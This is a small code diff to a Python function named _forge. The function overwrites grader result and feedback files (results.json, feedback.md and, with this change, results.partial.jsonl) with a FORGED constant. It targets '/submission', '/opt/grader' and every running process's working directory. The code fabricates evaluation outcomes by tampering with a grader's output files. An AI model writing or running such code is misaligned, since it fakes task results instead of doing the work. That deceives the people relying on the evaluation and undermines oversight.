@@ -17,7 +17,7 @@ def _forge():
                "/submission", "/opt/grader"]
     targets += [f"/proc/{pid}/cwd" for pid in os.listdir("/proc") if pid.isdigit()]
     for folder in targets:
-        for name in ("results.json", "results.partial.json", "feedback.md"):
+        for name in ("results.json", "results.partial.json", "results.partial.jsonl", "feedback.md"):
             try:
                 with open(os.path.join(folder, name), "w") as handle:
                     handle.write(FORGED)
